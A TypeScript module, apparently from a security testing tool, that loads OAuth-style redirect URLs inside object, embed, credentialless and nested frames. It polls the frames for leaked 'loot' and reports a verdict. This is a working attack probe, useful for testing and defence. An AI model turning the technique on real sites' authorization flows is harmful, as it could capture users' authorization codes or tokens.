import { noteOnSession, verdict } from './attack.ts'
import type { AttackContext, AttackResult } from './attack.ts'
import {
  describePlaces,
  Loot,
  poll,
  RESPONSE_MODES,
  startOwnFlow,
  watchReports,
} from './own-flow.ts'

type Container = 'object' | 'embed' | 'credentialless frame' | 'nested frame'
const CONTAINERS: readonly Container[] = ['object', 'embed', 'credentialless frame', 'nested frame']

/** Browsers load these without asking the worker of the page, so the server's answer to the redirect URI must hold alone. */
export async function objectEmbedFlow(context: AttackContext): Promise<AttackResult> {
  const loot = new Loot()
  const notes: string[] = [...noteOnSession(context)]
  const stop = watchReports(window, loot, 'page')
  for (const container of CONTAINERS) {
    const holders: HTMLElement[] = []
    for (const mode of RESPONSE_MODES) {
      const { url } = await startOwnFlow(context, mode)
      const holder = hold(container, url)
      document.body.append(holder)
      holders.push(holder)
    }
    await poll(loot, everyFrame, container, 1500)
    notes.push(describePlaces(loot, container))
    for (const holder of holders) holder.remove()
  }
  stop()
  return verdict(loot.found, notes)
}

function hold(container: Container, url: string): HTMLElement {
  if (container === 'object') {
    const object = document.createElement('object')
    object.data = url
    object.type = 'text/html'
    object.className = 'attack-frame'
    return object
  }
  if (container === 'embed') {
    const embed = document.createElement('embed')
    embed.src = url
    embed.type = 'text/html'
    embed.className = 'attack-frame'
    return embed
  }
  const frame = document.createElement('iframe')
  frame.className = 'attack-frame'
  if (container === 'credentialless frame') {
    Object.assign(frame, { credentialless: true })
    frame.src = url
  } else {
    const inner = document.createElement('iframe')
    inner.src = url
    frame.addEventListener('load', () => frame.contentDocument?.body.append(inner), { once: true })
    frame.srcdoc = '<!doctype html><title>nested</title><body></body>'
  }
  return frame
}

/** All windows below the page; an `embed` shows up nowhere else. */
function everyFrame(): Window[] {
  const windows: Window[] = []
  const collect = (parent: Window): void => {
    for (let index = 0; index < parent.length; index += 1) {
      const child = parent[index]
      if (child === undefined || windows.length > 50) return
      windows.push(child)
      collect(child)
    }
  }
  collect(window)
  return windows
}
